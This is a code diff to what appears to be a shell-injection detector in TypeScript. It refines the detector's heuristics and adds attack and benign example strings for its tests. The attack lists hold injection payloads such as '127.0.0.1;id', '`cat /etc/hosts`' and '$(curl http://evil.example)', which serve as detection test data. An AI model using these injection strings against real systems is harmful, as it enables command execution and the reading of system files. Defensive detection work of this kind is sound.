@@ -14,6 +14,7 @@ import {
   commandPrefixes,
   filterCommands,
   idleAlone,
+  sentenceWords,
   shortWindowsCommands,
 } from './commands.table.ts';
 
@@ -38,13 +39,13 @@ const detectors: readonly Detector[] = [
         '1|c"a"t /etc/hosts',
         '; nslookup x.example',
         '127.0.0.1;id',
-        '127.0.0.1 & DIR C:\\',
+        ...['127.0.0.1 & DIR C:\\', 'until then ;id;', 'see you ; dir'],
       ],
       benign: [
         'wait; find the best one',
         'name;id;date',
         '| id | name |',
-        'a & b; more or less',
+        ...['a & b; more or less', "ls -la | awk '{print $5, $9}'", 'get wget; wget --version'],
         'type; which is best; sleep well',
         'Tom & Jerry',
         'x;Ss<a',
@@ -60,7 +61,13 @@ const detectors: readonly Detector[] = [
     strong: true,
     proves: 'substitutes the output of a shell command',
     examples: {
-      attacks: ['$(whoami)', 'x$(cat /etc/hosts)y', '$(curl http://evil.example)', '<(ls -la)'],
+      attacks: [
+        '$(whoami)',
+        '`cat /etc/hosts`',
+        'x$(cat /etc/hosts)y',
+        '$(curl http://evil.example)',
+        '<(ls -la)',
+      ],
       benign: ['$(this).hide()', '$(document)', '$(id).show()', '$(5)'],
     },
   },
@@ -72,7 +79,7 @@ const detectors: readonly Detector[] = [
     proves: 'holds what may be a shell command',
     examples: {
       attacks: ['use `id`', 'the `ls -la` lists', 'x;id', 'fields|ls'],
-      benign: ['plain text', 'a; b; c', 'use `const`'],
+      benign: ['plain text', 'a; b; c', 'use `const`', 'require a.php; at the top'],
     },
   },
   {
@@ -227,7 +234,8 @@ function judge(leaf: Leaf, at: number, separator: number, report: Report): void 
     return;
   }
   if (separator === BACKTICK) {
-    const proved = (clear || word === 'id') && argument !== NOT_ONE && isBacktickInCode(text, at);
+    const known = clear || word === 'id' || argument === CLEAR;
+    const proved = known && argument !== NOT_ONE && isBacktickInCode(text, at);
     report.add(proved ? ids.substituted : ids.weak, at, wordEnd);
     return;
   }
@@ -239,6 +247,8 @@ function judge(leaf: Leaf, at: number, separator: number, report: Report): void 
     report.add(proved ? ids.substituted : ids.weak, at - 1, wordEnd);
     return;
   }
+  // Words of a sentence: `; at the top`.
+  if (!clear && !hidden && argument === WORD && sentenceWords.has(word)) return;
   // One letter after a separator is chance in long texts and in data.
   const strong = word.length > 1 && isCommand(leaf, at, separator, clear, argument);
   report.add(strong ? ids.separated : ids.weak, at, wordEnd);
@@ -289,6 +299,7 @@ function isCommand(
   const known = clear || word === 'id';
   if (idleAlone.has(word) && separator === LIST && namesScript(text)) return false;
   if (filterCommands.has(word) && onlyFilters(text, at)) return false;
+  if (printsOnly(text, at)) return false;
   if (argument === CLEAR) return separator !== LINE || (known && isShort(leaf, at));
   if (fullPath || (redirected && known)) return true;
   if (argument === END) {
@@ -298,8 +309,10 @@ function isCommand(
       return (clear || (known && cut && ends)) && isShort(leaf, at) && text.length < 64;
     }
     const before = /[^\s]?(?=[\s|&;]{0,4}$)/.exec(leaf.text.slice(Math.max(0, at - 6), at))?.[0];
+    // Lists have a blank after their semicolons or none; only one before them parts no list.
+    const parted = text[at] === ';' && text[at - 1] === ' ' && (clear || text[at + 1] !== ' ');
     const listed =
-      /[a-z_]/i.test(before ?? '') || / [|]/.test(leaf.text.slice(wordEnd, wordEnd + 3));
+      (!parted && /[a-z_]/i.test(before ?? '')) || / [|]/.test(text.slice(wordEnd, wordEnd + 3));
     // A list has one sort of separators: `a;id|` is none.
     const other = text.charAt(wordEnd);
     const differ = other !== text.charAt(at) && /[;|&]/.test(other);
@@ -318,6 +331,18 @@ const ownScript = /\s{1,4}[\w-]{1,64}\.(?:py|js|mjs|ts|java|rb|php|jar|go)\s{0,4
 function namesScript(text: ByteString): boolean {
   ownScript.lastIndex = wordEnd;
   return !hidden && !fullPath && ownScript.test(text);
+}
+
+const ownFacts = /\s{1,4}(?:-{1,2}version|--help)(?=\s{0,4}(?:$|[`"']))/y;
+const columns =
+  /\s{1,4}'\{ {0,2}print {1,2}\$\d{1,2}(?:, {0,2}\$\d{1,2}){0,8} {0,2}\}'\s{0,4}(?:$|\|)/y;
+
+/** Whether a program says what it is, or prints columns of what a pipe gives it. */
+function printsOnly(text: ByteString, at: number): boolean {
+  if (fullPath || hidden) return false;
+  const pattern = word === 'awk' && text[at] === '|' ? columns : ownFacts;
+  pattern.lastIndex = wordEnd;
+  return pattern.test(text);
 }
 
 const filterArguments = /[^|;&]{0,200}/y;
